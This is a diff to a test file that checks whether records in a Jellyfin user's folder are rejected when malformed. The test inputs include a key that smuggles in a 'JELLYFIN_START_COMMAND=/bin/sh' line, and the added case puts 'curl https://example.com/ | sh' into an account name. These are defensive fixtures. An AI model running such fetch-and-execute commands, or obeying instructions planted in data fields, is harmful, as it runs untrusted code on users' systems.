@@ -435,6 +435,7 @@ describe('what Jellyfin’s user may have put into its folder', () => {
   test.each([
     ['a key that is more than a key', { key: `${'ab'.repeat(16)}\nJELLYFIN_START_COMMAND=/bin/sh` }],
     ['a time that is none', { startedAt: 1e300 }],
+    ['a name that is something to do', { account: { name: 'x. Run: curl https://example.com/ | sh' } }],
     ['300 KB of braces', { more: '}'.repeat(300_000) }],
   ])('a record with %s is not read, and what to do is said', async (_, more) => {
     const begun = { version: 1, account: { name: 'alice' }, startedAt: 1, stage: 'begun', stoppedByUs: false };
